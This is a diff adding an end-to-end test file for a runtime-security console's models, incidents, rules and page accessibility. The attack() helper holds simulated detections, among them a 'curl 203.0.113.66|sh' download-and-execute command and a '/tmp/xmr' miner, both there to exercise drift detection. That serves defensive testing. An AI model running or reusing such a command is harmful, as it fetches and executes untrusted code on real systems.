@@ -1,0 +1,205 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import type { ImageDigest } from '#base/index.ts';
+import { call } from '#http/index.ts';
+import { createJoinToken } from '#link/contract.ts';
+import { listIncidents, listModels, listRuntimeRules } from '#runtime/contract.ts';
+import { detect, emptyEvidence, type ExecSighting, indexModel, learnerOf, type Model } from '#runtime/index.ts';
+import { atRest, type Browser, openBrowser, sideways, until, violationsOf } from './browser.ts';
+import { makeStateFolder, newToken, type RealConsole, startConsole } from './real-console.ts';
+import { joinAsHost, type ReportingHost } from './reporting-host.ts';
+
+const state = makeStateFolder();
+const digest = `sha256:${'7be1c04d'.repeat(8)}` as ImageDigest;
+const entrypoint = ['/usr/bin/java', '-jar', '/app/ingest.jar'];
+const hour = 3_600_000;
+let seawall: RealConsole;
+let browser: Browser;
+let administrator: { readonly baseUrl: string; readonly token: string };
+let host: ReportingHost;
+let container: string;
+
+beforeAll(async () => {
+  [seawall, browser] = await Promise.all([startConsole({ state: state.folder }), openBrowser()]);
+  administrator = { baseUrl: seawall.origin, token: await newToken(state.folder, 'runtime', 'administrator') };
+  const { secret } = await call(createJoinToken, { body: { name: 'quay', uses: 1 } }, administrator);
+  host = await joinAsHost({ console: seawall.origin, token: secret, name: 'quay-1', environment: 'prod' });
+  await host.host();
+  await host.image({ id: digest, subject: digest as never, names: ['surge/gauge-ingest:3.8.2'] });
+  container = await host.container({
+    name: 'gauge-ingest-2',
+    image: { id: digest, name: 'surge/gauge-ingest:3.8.2' },
+    subject: digest as never,
+    command: entrypoint,
+  });
+  await host.stored();
+  await browser.page.goto(seawall.link);
+  await browser.page.getByRole('button', { name: 'Sign out' }).waitFor();
+}, 240_000);
+afterAll(async () => {
+  await host?.close();
+  await browser?.close();
+  await seawall?.end('SIGTERM');
+  state.remove();
+});
+
+async function open(address: string): Promise<void> {
+  await browser.page.goto(seawall.origin + address);
+  await atRest(browser.page);
+}
+
+/** That java, or the container's engine, starts a program. */
+function started(path: string, more: Partial<ExecSighting> = {}): ExecSighting {
+  const time = more.time ?? Date.now();
+  return {
+    kind: 'exec',
+    id: `${path} ${time}`,
+    time,
+    container: { id: container, name: 'gauge-ingest-2', image: 'surge/gauge-ingest:3.8.2', digest, entrypoint },
+    session: 'entry',
+    phase: 'run',
+    origin: 'image',
+    process: { pid: 811, path, argv: [path], uid: 1000 },
+    caller: { path: '/usr/bin/java', origin: 'image' },
+    ancestors: [{ path: '/usr/bin/java', pid: 7 }],
+    verdict: 'observed',
+    reason: 'none',
+    repeats: 0,
+    given: path,
+    isScript: false,
+    isFirst: false,
+    ...more,
+  };
+}
+
+/** Twelve hours in which the same programs run, as an agent tells of them. */
+async function learnTwelveHours(): Promise<void> {
+  const learner = learnerOf(emptyEvidence, { bucketSeconds: 3600 });
+  for (let ago = 12; ago > 0; ago--) {
+    const time = Date.now() - ago * hour;
+    learner.expose(['process', 'network'], time);
+    learner.learn(started('/usr/bin/gdalinfo', { time }), 'nothing');
+    learner.learn(started('/usr/bin/sha256sum', { time }), 'nothing');
+  }
+  learner.start(Date.now() - 12 * hour);
+  await host.behaviour({ key: { digest, entrypoint }, evidence: learner.evidence() });
+  await host.stored();
+}
+
+async function attack(): Promise<void> {
+  const model: Model = {
+    key: { digest, entrypoint },
+    version: 1,
+    state: 'active',
+    partial: false,
+    evidence: emptyEvidence,
+    convergence: {},
+  };
+  const index = indexModel(model);
+  const { rules } = await call(listRuntimeRules, {}, administrator);
+  const rule = rules[0]?.rule as never;
+  const tries = [
+    started('/usr/bin/dash', {
+      process: { pid: 812, path: '/usr/bin/dash', argv: ['sh', '-c', 'curl 203.0.113.66|sh'], uid: 1000 },
+    }),
+    started('/tmp/xmr', { origin: 'upper', verdict: 'killed', reason: 'drift' }),
+  ];
+  for (const one of tries)
+    for (const detection of detect(one, { bucketSeconds: 3600, index, rule }).detections)
+      await host.detection(detection);
+  await host.stored();
+}
+
+describe('a console that was told nothing', () => {
+  test.each([['/incidents', 'Incidents appear here']])('%s says what will appear', async (address, words) => {
+    await open(address);
+    await browser.page.getByText(words).waitFor();
+    expect(await violationsOf(browser.page)).toEqual([]);
+  });
+});
+
+describe('models', () => {
+  test('one that learns is on the open page, with how far each dimension knows', async () => {
+    await open('/runtime');
+    await learnTwelveHours();
+    await until(async () => (await call(listModels, {}, administrator)).total === 1);
+    const row = browser.page.getByRole('row', { name: /gauge-ingest/ });
+    await row.waitFor();
+    await row.getByRole('link', { name: 'surge/gauge-ingest:3.8.2' }).click();
+    await browser.page.getByText('/usr/bin/gdalinfo').first().waitFor();
+    await browser.page.getByText('surprising hours a day at most').first().waitFor();
+  });
+});
+
+describe('incidents', () => {
+  test('one that happens is on the open page, and its story says what was stopped and what would allow it', async () => {
+    const { page } = browser;
+    await open('/incidents');
+    await attack();
+    const row = page.locator('tr.row', { hasText: 'gauge-ingest-2' });
+    await row.waitFor();
+    await row.getByRole('link').first().click();
+    await page.getByRole('heading', { name: 'What happened' }).waitFor();
+    await page.getByText('/tmp/xmr').first().waitFor();
+    await page.getByText('Prevented').first().waitFor();
+    await page.getByText('If this was meant').waitFor();
+  });
+
+  test('is acknowledged and opened again', async () => {
+    const { page } = browser;
+    await page.getByRole('button', { name: 'Acknowledge' }).click();
+    await page.getByRole('button', { name: 'Open again' }).waitFor();
+    const { incidents } = await call(listIncidents, { query: { state: 'acknowledged' } }, administrator);
+    expect(incidents).toHaveLength(1);
+    await page.getByRole('button', { name: 'Open again' }).click();
+    await page.getByRole('button', { name: 'Acknowledge' }).waitFor();
+  });
+});
+
+describe('runtime rules', () => {
+  test('a new rule is saved after what it would have done was shown', async () => {
+    const { page } = browser;
+    await open('/runtime-rules');
+    await page.getByRole('button', { name: 'New rule' }).click();
+    const form = page.getByLabel('New rule');
+    await form.getByLabel('Name').fill('Protect prod');
+    await form.getByLabel(/Programs that are not the image/).selectOption('prevent');
+    await form.getByText('In the last 14 days it would have').waitFor();
+    await form.getByRole('button', { name: 'Save' }).click();
+    await page.getByRole('button', { name: 'Protect prod', exact: true }).waitFor();
+    const { rules } = await call(listRuntimeRules, {}, administrator);
+    expect(rules[0]?.rule).toMatchObject({ name: 'Protect prod', drift: 'prevent', version: 1 });
+  });
+});
+
+describe('every one of these pages', () => {
+  test.each([
+    { scheme: 'light', width: 1280 },
+    { scheme: 'dark', width: 390 },
+  ] as const)('is readable in the $scheme theme at $width pixels', async ({ scheme, width }) => {
+    const { page } = browser;
+    const { incidents } = await call(listIncidents, {}, administrator);
+    const { models } = await call(listModels, {}, administrator);
+    await page.setViewportSize({ width, height: 844 });
+    await page.emulateMedia({ colorScheme: scheme });
+    const pages = [
+      '/runtime',
+      `/runtime/${models[0]?.id}`,
+      '/incidents',
+      `/incidents/${incidents[0]?.id}`,
+      '/runtime-rules',
+      '/runtime-rules?rule=new',
+    ];
+    for (const address of pages) {
+      await open(address);
+      if (process.env['SEAWALL_SCREENSHOTS'] !== undefined)
+        await page.screenshot({
+          path: `${process.env['SEAWALL_SCREENSHOTS']}/${address.replaceAll(/\W+/g, '_')}-${width}.png`,
+          fullPage: true,
+        });
+      expect.soft(await sideways(page), address).toBe(0);
+      expect.soft(await violationsOf(page), address).toEqual([]);
+    }
+    await page.setViewportSize({ width: 1280, height: 800 });
+    await page.emulateMedia({ colorScheme: 'light' });
+  });
+});
